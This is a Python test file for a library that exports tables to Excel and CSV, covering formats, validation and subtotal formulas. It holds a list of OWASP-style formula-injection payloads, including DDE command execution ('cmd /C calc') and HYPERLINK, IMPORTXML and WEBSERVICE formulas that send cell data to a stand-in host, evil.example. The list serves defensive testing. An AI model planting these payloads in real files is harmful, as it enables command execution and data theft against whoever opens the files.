"""Tables as files: what a spreadsheet and its reader find in them, and that they run nothing."""

import csv
import io
import re
import tempfile
from collections.abc import Sequence
from dataclasses import asdict
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import orjson
import pytest

from libs.domain.errors import Unavailable
from libs.files.sheet_columns import Below, Currency, Kind, Share, SheetColumn
from libs.files.table_program import write
from libs.files.tables import Table, table_file

COLUMNS = (
    SheetColumn("Item", 30, Kind.TEXT),
    SheetColumn("State", 12, Kind.TEXT, choices=("open", "done")),
    SheetColumn("Lines", 10, Kind.INTEGER, Below.SUM),
    SheetColumn("Ordered", 12, Kind.QUANTITY, Below.SUM),
    SheetColumn("Good", 12, Kind.QUANTITY),
    SheetColumn("Rate", 10, Kind.PERCENT, Share(4, 3, 100)),
    SheetColumn("Price", 14, Kind.MONEY, Below.AVERAGE),
    SheetColumn("Value", 16, Kind.MONEY, Below.SUM),
    SheetColumn("Due", 12, Kind.DATE),
    SheetColumn("Changed", 18, Kind.MOMENT),
)
MOMENT = datetime(2026, 3, 31, 20, 15, 30, tzinfo=UTC)
ROWS: list[list[object]] = [
    ["Bolt", "open", 2, Decimal("10.000"), Decimal(9), Decimal("90.00"), Decimal("12.5000"),
     Decimal("125.0"), date(2026, 3, 31), MOMENT],
    ["Nut & <M8>", "done", 1, Decimal("2.25"), Decimal(1), None, Decimal("0.0125"),
     Decimal("-3.4"), None, None],
    [None, "open", 0, Decimal(1000000), Decimal(1000000), Decimal(100), None,
     Decimal("99999999.99"), date(2024, 2, 29), datetime(2026, 1, 1, tzinfo=UTC)],
]  # fmt: skip
# Characters that begin a formula somewhere (OWASP), and what has been done with them.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [
    *(f"{trigger}1+1" for trigger in TRIGGERS),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1:B9),"//a")',
    '\t=DDE("cmd";"/C calc";"x")',
    '\r\n=WEBSERVICE("http://evil.example")',
    '"=1+1',
    "\uff1d1+1",
]


def table(kind: str = "xlsx", columns: Sequence[SheetColumn] = COLUMNS) -> Table:
    return Table(kind, "Items", columns, "Asia/Kolkata", Currency("₹", 2))


def written(of: Table, rows: Sequence[Sequence[object]], *about: tuple[str, str]) -> bytes:
    """The file, without a process."""
    lines = [asdict(of), rows, {"about": about}]
    out = io.BytesIO()
    assert write(iter([orjson.dumps(line, default=str) for line in lines]), out)
    return out.getvalue()


def opened(file: bytes, **how: Any) -> Any:
    return openpyxl.load_workbook(io.BytesIO(file), **how)


def reckoned(formula: str, sheet: Any) -> Decimal:
    """What one of our formulas comes to, of the cells it names."""

    def subtotal(found: re.Match[str]) -> str:
        cells = [Decimal(str(c.value)) for (c,) in sheet[found[2]] if c.value is not None]
        total = sum(cells, Decimal(0))
        return f"Decimal('{total if found[1] == '109' else total / len(cells)}')"

    inner = re.sub(r'^=IFERROR\((.*),""\)$', r"=\1", formula).removeprefix("=")
    return Decimal(eval(re.sub(r"SUBTOTAL\((\d+),([A-Z]+\d+:[A-Z]+\d+)\)", subtotal, inner)))  # noqa: S307


@pytest.mark.promise("S0.45", "S0.46", "S0.47")
def test_a_sheet_has_formats_frozen_and_filtered_header_validation_and_a_summary() -> None:
    file = written(table(), ROWS, ("Report", "Items"), ("Filter: State", "=all"))
    sheet = opened(file)["Items"]
    header, first, second, third, below = sheet.iter_rows()
    assert [cell.value for cell in header] == [column.label for column in COLUMNS]
    assert header[0].font.bold
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:J4")
    assert sheet.print_title_rows == "$1:$1"
    assert [sheet.column_dimensions[c].width for c in "ABH"] == [30, 12, 16]
    # Real numbers, dates and moments as the company's clocks show them.
    assert [cell.value for cell in first] == [
        "Bolt", "open", 2, 10, 9, 90, 12.5, 125,
        datetime(2026, 3, 31), datetime(2026, 4, 1, 1, 45, 30),
    ]  # fmt: skip
    assert [cell.value for cell in second][5:] == [None, 0.0125, -3.4, None, None]
    assert second[0].value == "Nut & <M8>"
    assert third[7].value == 99999999.99
    assert [cell.number_format for cell in first] == [
        "@", "@", "#,##0", "#,##0", "#,##0", '0.0"%"',
        "[$₹]\\ #,##0.00;[Red]\\-[$₹]\\ #,##0.00", "[$₹]\\ #,##0.00;[Red]\\-[$₹]\\ #,##0.00",
        "yyyy\\-mm\\-dd", "yyyy\\-mm\\-dd\\ hh:mm",
    ]  # fmt: skip
    # Nothing of a number is hidden by its format.
    assert (second[3].number_format, second[6].number_format[:16]) == (
        "#,##0.00",
        "[$₹]\\ #,##0.0000",
    )
    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert {where: v.type for where, v in validations.items()} == {
        "B2:B4": "list", "C2:C4": "whole", "D2:D4": "decimal", "E2:E4": "decimal",
        "F2:F4": "decimal", "G2:G4": "decimal", "H2:H4": "decimal", "I2:I4": "date",
        "J2:J4": "date",
    }  # fmt: skip
    assert validations["B2:B4"].formula1 == '"open,done"'
    formulas = {cell.column_letter: cell.value for cell in below if cell.data_type == "f"}
    assert formulas["C"] == "=SUBTOTAL(109,C2:C4)"
    values = opened(file, data_only=True)["Items"][5]
    shown = {cell.column_letter: cell.value for cell in values if cell.value is not None}
    assert shown.pop("A") == "Total"
    assert shown.keys() == formulas.keys() == set("CDFGH")
    for letter, formula in formulas.items():
        assert float(reckoned(formula, sheet)) == pytest.approx(shown[letter], abs=1e-6)
    assert shown["H"] == pytest.approx(100000121.59)
    assert [c.value for c in opened(file)["About"]["B"]] == ["Items", "'=all"]


def test_without_rows_there_is_a_header_and_nothing_to_add_up() -> None:
    sheet = opened(written(table(), []))["Items"]
    assert sheet.max_row == 1
    assert sheet.auto_filter.ref is None
    assert written(table("csv"), []).decode().count("\n") == 1


def test_a_csv_has_the_same_rows_as_text() -> None:
    rows = list(csv.reader(io.StringIO(written(table("csv"), ROWS).decode("utf-8-sig"))))
    assert rows[1][3:] == [
        "10.000",
        "9",
        "90.00",
        "12.5000",
        "125.0",
        "2026-03-31",
        "2026-04-01 01:45",
    ]
    assert (rows[3][0], len(rows)) == ("", 4)


def test_a_share_whose_columns_come_to_nothing_stands_empty() -> None:
    sheet = opened(written(table(), [[*ROWS[0][:3], 0, 0, *ROWS[0][5:]]]))["Items"]
    assert sheet["F3"].value is None


async def test_a_process_writes_it_and_none_that_is_left_halfway() -> None:
    with tempfile.TemporaryFile() as out:
        async with table_file(table(), out) as file:
            for _ in range(3):
                await file.add(ROWS)
            await file.end([("Report", "Items")])
        out.seek(0)
        sheet = opened(out.read())["Items"]
    assert (sheet.max_row, sheet["D11"].value) == (11, "=SUBTOTAL(109,D2:D10)")
    assert not write(iter([orjson.dumps(asdict(table())), orjson.dumps([])]), io.BytesIO())


async def test_what_cannot_be_written_is_said(tmp_path: Any) -> None:
    with (tmp_path / "full").open("wb") as out:
        async with table_file(table(), out) as file:
            await file.add([["a row that is too short"]])
            with pytest.raises(Unavailable):
                await file.end([])
